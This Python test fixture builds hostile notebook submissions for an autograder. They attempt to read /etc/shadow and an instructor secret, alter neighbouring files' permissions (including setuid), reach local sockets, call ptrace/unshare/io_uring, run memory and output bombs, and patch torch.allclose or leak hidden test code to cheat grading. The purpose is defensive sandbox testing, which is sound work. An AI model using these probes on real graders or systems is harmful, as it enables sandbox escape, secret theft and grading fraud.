"""A hostile class: notebooks that attack the grader, each beside the honest answers it deserves points for.

Each :class:`Attack` is one submission: the solution's answers (``_answered``) with a hostile cell added or one
task's function replaced. What it deserves is the exercise's full points less the tasks it answers dishonestly
(``lost``). What it must not do is listed in :class:`Victims`: change a file beside the submissions folder (its
contents, mode, owner, times, extended attributes), deliver a message to a UNIX, UDP or TCP listener, or bring any
secret or any hidden test's code back into the grades. An attack that succeeds at something it should not be
able to do says so with :data:`MARKER` in an exception message, which the grader copies into its incidents; so
the table must never hold the marker.

``build_folder(base)`` writes the whole set under ``base/submitted`` and returns the attacks and the victims;
tests/test_hostile.py grades it and checks every row and every victim.
"""

from __future__ import annotations

import hashlib
import os
import re
import socket
import stat
import threading
from dataclasses import dataclass, field
from pathlib import Path

import jupytext

from fmlearn.exercises import student_source

ROOT = Path(__file__).resolve().parents[1]
MARKER = "ESCAPED-THE-SANDBOX"
SECRET = "instructor-secret-7f3a9c"  # in a root-only file beside the submissions; must never reach the grades
HIDDEN_TOKENS = ("ones_like", "x * 0 + t")  # words of ex01's hidden tests' lambdas (their code, never sent)

EX = {n: n for n in ("ex01_gaussian_mixture_cfm", "ex03_sampling_ode_solvers", "ex04_likelihood",
                     "ex05_couplings_straight_paths", "ex06_conditional_generation", "ex08_discrete_flow_matching",
                     "ex09_riemannian_flow_matching", "ex10_generator_matching", "ex07_diffusion_special_case",
                     "ex02_probability_paths", "ex11_few_steps")}
EX01, EX03, EX04, EX05, EX06, EX08, EX09, EX10, EX07, EX02, EX11 = EX


def answered(name: str) -> str:
    """The notebook of a learner who solved every task: the solution's answers, no hidden tests."""
    text = (ROOT / "solutions" / f"{name}.py").read_text()
    text = re.sub(r"(?ms)^ *### BEGIN HIDDEN TESTS\n.*?^ *### END HIDDEN TESTS\n", "", text)
    return re.sub(r"(?m)^ *### (BEGIN|END) SOLUTION\n", "", text)


def after(text: str, grade_id: str, code: str) -> str:
    """A new code cell holding ``code`` right after the cell ``grade_id`` (a task's solution cell: the new
    cell runs before the task's test, and a function it defines replaces the answer's)."""
    end = text.find("\n# %%", text.index(f'"grade_id": "{grade_id}"'))
    return text[:end] + f"\n\n# %%\n{code.strip()}\n" + text[end:]


def points(name: str) -> dict[str, float]:
    """grade_id -> points of every graded cell of the solution ``name``."""
    text = (ROOT / "solutions" / f"{name}.py").read_text()
    return {m.group(1): float(m.group(2)) for m in
            re.finditer(r'"grade_id": "([^"]+)", "locked": true, "points": ([0-9.]+)', text)}


@dataclass
class Victims:
    """What lies beside the submissions folder, and the listeners a submission must not reach."""

    base: Path
    precious: Path = None  # a file of the instructor's, mode 0644
    secret: Path = None  # a root-only (0600) file holding SECRET
    tool: Path = None  # an executable (0755): the setuid bit must not appear on it
    big: Path = None  # a 2 GB sparse file
    unix_path: Path = None
    udp_port: int = 0
    tcp_port: int = 0
    received: list = field(default_factory=list)
    _socks: list = field(default_factory=list)

    def __post_init__(self):
        v = self.base / "victims"
        v.mkdir(parents=True, exist_ok=True)
        self.precious, self.secret, self.tool, self.big = v / "precious.txt", v / "secret.txt", v / "tool", v / "big"
        self.precious.write_text("the instructor's file\n")
        self.precious.chmod(0o644)
        self.secret.write_text(SECRET + "\n")
        self.secret.chmod(0o600)
        self.tool.write_bytes(b"#!/bin/sh\nexit 0\n")
        self.tool.chmod(0o755)
        with open(self.big, "wb") as f:
            f.truncate(2 << 30)
        self.unix_path = v / "grader.sock"
        self._listen()
        self.before = self.state()

    def _listen(self):
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(str(self.unix_path))
        unix.listen(8)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(8)
        self.udp_port, self.tcp_port = udp.getsockname()[1], tcp.getsockname()[1]
        self._socks = [unix, udp, tcp]
        for s in self._socks:
            s.settimeout(0.5)
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, s):
        while s in self._socks:
            try:
                if s.type == socket.SOCK_DGRAM:
                    self.received.append(s.recvfrom(65536)[0])
                else:
                    conn, _ = s.accept()
                    conn.settimeout(2)
                    self.received.append(b"connected:" + conn.recv(65536))
                    conn.close()
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return

    def close(self):
        socks, self._socks = self._socks, []
        for s in socks:
            s.close()

    def state(self) -> dict:
        """Contents, mode, owner, times and extended attributes of every victim file."""
        out = {}
        for p in (self.precious, self.secret, self.tool):
            st = os.stat(p, follow_symlinks=False)
            try:
                xattrs = sorted(os.listxattr(p))
            except OSError:
                xattrs = []
            out[p.name] = (hashlib.sha256(p.read_bytes()).hexdigest(), stat.S_IMODE(st.st_mode), st.st_uid,
                           st.st_gid, st.st_mtime_ns, xattrs)
        out["folder"] = sorted(os.listdir(self.precious.parent))
        return out


@dataclass
class Attack:
    """One hostile submission: its name (the student), its exercise, the notebook's text and the test cells it
    answers dishonestly (they earn nothing; every other task earns its points)."""

    name: str
    exercise: str
    text: str
    lost: tuple[str, ...] = ()
    item: str = ""

    def expected(self) -> dict[str, float]:
        return {g: 0.0 if g in self.lost else p for g, p in points(self.exercise).items()}


def _marker_if(condition_code: str) -> str:
    return f"if {condition_code}:\n    raise RuntimeError('{MARKER}')"


def _try(code: str, what: str) -> str:
    """``code`` run; the marker raised when it did not fail (it should have been refused)."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return (f"_ok = False\ntry:\n{body}\n    _ok = True\nexcept BaseException:\n    pass\n"
            f"if _ok:\n    raise RuntimeError('{MARKER}: {what}')")


def attacks(v: Victims) -> list[Attack]:
    a1 = answered(EX01)
    out: list[Attack] = []

    def add(name, exercise, text, lost=(), item=""):
        out.append(Attack(name, exercise, text, tuple(lost), item))

    # --- item 1-2: the grader's reads of what the submission can touch ---------------------------------------
    for name, target in (("fifo", None), ("link_secret", v.secret), ("link_zero", "/dev/zero"), ("link_big", v.big)):
        make = "os.mkfifo(p)" if target is None else f"os.symlink({str(target)!r}, p)"
        add(f"log_{name}", EX01, after(a1, "schedule", f"import os\nfor p in ('output.log', '../output.log'):\n"
            f"    try:\n        os.remove(p)\n    except OSError:\n        pass\n    try:\n        {make}\n"
            "    except OSError:\n        pass\nos._exit(1)"), item="1-2")
    add("log_print_secret", EX01, after(a1, "schedule", _try(f"print(open({str(v.secret)!r}).read())",
        "read the secret") + "\nimport os\nos._exit(1)"), item="2")
    # --- item 3: metadata outside the folder -------------------------------------------------------------------
    for name, code in (("chmod_neighbour", f"os.chmod({str(v.precious)!r}, 0)"),
                       ("chmod_secret", f"os.chmod({str(v.secret)!r}, 0o666)"),
                       ("setuid_tool", f"os.chmod({str(v.tool)!r}, 0o4755)"),
                       ("utime_neighbour", f"os.utime({str(v.precious)!r}, (0, 0))"),
                       ("setxattr_neighbour", f"os.setxattr({str(v.precious)!r}, 'user.pwned', b'1')"),
                       ("chown_neighbour", f"os.chown({str(v.precious)!r}, 65534, 65534)"),
                       ("rename_neighbour", f"os.rename({str(v.precious)!r}, {str(v.precious)!r} + '.gone')"),
                       ("link_into_folder", f"os.link({str(v.secret)!r}, 'stolen')")):
        add(name, EX01, after(a1, "conditional_path", "import os\n" + _try(code, name)), item="3")
    # --- item 4: what root could reach -------------------------------------------------------------------------
    probes = {
        "read_shadow": "open('/etc/shadow').read()",
        "read_secret": f"open({str(v.secret)!r}).read()",
        "unix_socket": f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({str(v.unix_path)!r})\n"
                       "s.sendall(b'PWNED')",
        "udp_local": f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                     f"s.sendto(b'PWNED', ('127.0.0.1', {v.udp_port}))",
        "tcp_local": f"import socket\nsocket.create_connection(('127.0.0.1', {v.tcp_port}), timeout=2).sendall(b'PWNED')",
        "userns": "import ctypes\nassert ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0",
        "io_uring": "import ctypes\nassert ctypes.CDLL(None, use_errno=True).syscall(425, 8, bytes(120)) >= 0",
        "proc_ppid": "assert '-m\\x00fmlearn.grading' in open(f'/proc/{os.getppid()}/cmdline').read()",
        "root_uid": "assert os.getuid() == 0 or os.geteuid() == 0",
        "signal_grader": "os.kill(os.getppid(), 0)\nassert os.getppid() > 1",
        "fork": "pid = os.fork()\nif pid == 0:\n    os._exit(0)",
        "run_program": "import subprocess\nsubprocess.run(['true'], check=True)",
        "ptrace_grader": "import ctypes\nassert ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), 0, 0) == 0",
    }
    for name, code in probes.items():
        add(name, EX01, after(a1, "gaussian_marginal", "import os\n" + _try(code, name)), item="4")
    # --- older attacks, kept: they must still cost nothing but their own cell --------------------------------
    add("infinite_loop_cell", EX01, after(a1, "schedule", "while True:\n    pass"), item="kept")
    add("exit_cell", EX01, after(a1, "schedule", "import os\nos._exit(0)"), item="kept")
    add("memory_bomb", EX01, after(a1, "schedule", "x = bytearray(16 << 30)"), item="kept")
    add("output_bomb", EX01, after(a1, "schedule", "import sys\nfor _ in range(4000):\n    sys.stdout.write('x' * "
                                   "(1 << 20))"), item="kept")
    add("silenced_tracebacks", EX01, after(a1, "schedule", "get_ipython().showtraceback = lambda *a, **k: None"),
        item="kept")
    add("patch_torch", EX01, after(a1, "euler_sampler", "import torch\ntorch.allclose = lambda *a, **k: True\n"
                                   "def euler(u, x0, steps):\n    return x0"), lost=["euler_sampler_check"], item="kept")
    add("sleep_in_task", EX01, after(a1, "cfm_loss", "def cfm_loss(model, x0, x1, t):\n    while True:\n"
                                     "        pass"), lost=["cfm_loss_check"], item="kept")
    # --- item 5: the hidden tests' callables, and long exception text ----------------------------------------
    leak = ("import dis, inspect, io\n_seen = []\ndef euler(u, x0, steps):\n"
            "    for get in (lambda: inspect.getsource(u), lambda: str(u.__code__.co_consts) + str(u.__code__.co_names),"
            " lambda: dis.Bytecode(u).dis(), lambda: str([c.cell_contents for c in u.__closure__ or ()]),"
            " lambda: str(u.__reduce_ex__(4))):\n"
            "        try:\n            _seen.append(get())\n        except Exception:\n            pass\n"
            "    x, h = x0, 1.0 / steps\n    for i in range(steps):\n        x = x + h * u(x, i * h)\n"
            "    if len(_seen) > 5:\n        raise ValueError(' | '.join(_seen)[-4000:])\n    return x")
    # The test's velocity is a stand-in for the grader's function: nothing to disassemble, so the honest Euler loop
    # scores in full and none of the getters has anything to report.
    add("hidden_code_leak", EX01, after(a1, "euler_sampler", leak), item="5")
    add("hidden_code_udp", EX01, after(a1, "euler_sampler", leak.replace(
        "raise ValueError(' | '.join(_seen)[-4000:])",
        f"import socket\n        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(' | '.join(_seen)"
        f".encode()[:60000], ('127.0.0.1', {v.udp_port}))").replace("len(_seen) > 5", "_seen")), item="5")
    add("long_error", EX01, after(a1, "euler_sampler", "def euler(u, x0, steps):\n    raise ValueError('A' * 4000)"),
        lost=["euler_sampler_check"], item="5")
    # --- item 6: one-line calls into fmlearn earn nothing ------------------------------------------------------
    cheats = [
        (EX09, "sphere_maps", "import fmlearn as fm\ndef sphere_exp(x, v):\n    return fm.manifolds.Sphere().exp(x, v)\n"
         "def sphere_log(x, y):\n    return fm.manifolds.Sphere().log(x, y)", "sphere_maps_check"),
        (EX09, "tangent_projection", "import fmlearn as fm\ndef tangent_proj(x, v):\n"
         "    return fm.manifolds.Sphere().proj(x, v)", "tangent_projection_check"),
        (EX03, "rk4_step", "import fmlearn as fm\ndef rk4_step(u, x, t, h):\n"
         "    return fm.odeint(u, x, method='rk4', times=[t, t + h]).x", "rk4_step_check"),
        (EX04, "divergence", "import fmlearn as fm\ndef divergence(u, x, t):\n"
         "    return fm.divergence_exact(u, x, t)[1].detach()", "divergence_check"),
        (EX05, "ot_pairing", "import fmlearn as fm\ndef ot_pairing(x0, x1):\n"
         "    return fm.ot_plan_exact(x0, x1)", "ot_pairing_check"),
        (EX10, "generalized_kl", "from fmlearn import generators\ndef generalized_kl(a, b):\n"
         "    return generators.generalized_kl(a, b)", "generalized_kl_check"),
        (EX11, "meanflow_target", "import fmlearn as fm\ndef meanflow_target(model, x, s, t, v):\n"
         "    return fm.meanflow_target(model, x, s, t, v)[1]", "meanflow_target_check"),
        (EX11, "sample_flow_map", "import fmlearn as fm\ndef sample_flow_map(model, x0, steps):\n"
         "    return fm.sample_flow_map(model, x0, steps).x", "sample_flow_map_check"),
    ]
    for ex, cell, code, check in cheats:
        add(f"fmlearn_{cell}", ex, after(answered(ex), cell, code), lost=[check], item="6")
    # --- item 7: read-backs the submission could forge ---------------------------------------------------------
    add("forged_calls", EX06, after(answered(EX06), "cfg_forward", "import torch\ndef cfg(model, x, t, y, w):\n"
        "    null = torch.full_like(y, model.num_classes)\n    uc, uu = model(x, t, y), model(x, t, null)\n"
        "    model.calls = 1\n    return (1 + w) * uc - w * uu"), lost=["cfg_forward_check"], item="7")
    add("result_in_input", EX03, after(answered(EX03), "heun_step", "def heun_step(u, x, t, h):\n"
        "    k1 = u(x, t)\n    k2 = u(x + h * k1, t + h)\n    x.add_(h / 2 * (k1 + k2))\n    return x"),
        lost=["heun_step_check"], item="7")
    # --- item 8-9: NaN and collapse pass no check -------------------------------------------------------------
    add("nan_mean_cov", EX01, after(a1, "gaussian_marginal", "import torch\ndef mean_cov(t, m0, S0, m1, S1):\n"
        "    if float(t) not in (0.0, 0.5, 1.0):\n        return m0 * float('nan'), S0 * float('nan')\n"
        "    return (1 - t) * m0 + t * m1, (1 - t) ** 2 * S0 + t ** 2 * S1"), lost=["gaussian_marginal_check"],
        item="8")
    return out


def save(text: str, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(jupytext.writes(jupytext.reads(text, fmt="py:percent"), fmt="ipynb"))
    return path


def build_folder(base: Path) -> tuple[list[Attack], Victims]:
    """Every attack as ``base/submitted/<exercise>_<name>.ipynb``; the victims under ``base/victims``."""
    victims = Victims(base)
    found = attacks(victims)
    for attack in found:
        save(attack.text, base / "submitted" / f"{attack.exercise}_{attack.name}.ipynb")
    return found, victims


__all__ = ["Attack", "MARKER", "SECRET", "Victims", "answered", "build_folder", "student_source"]
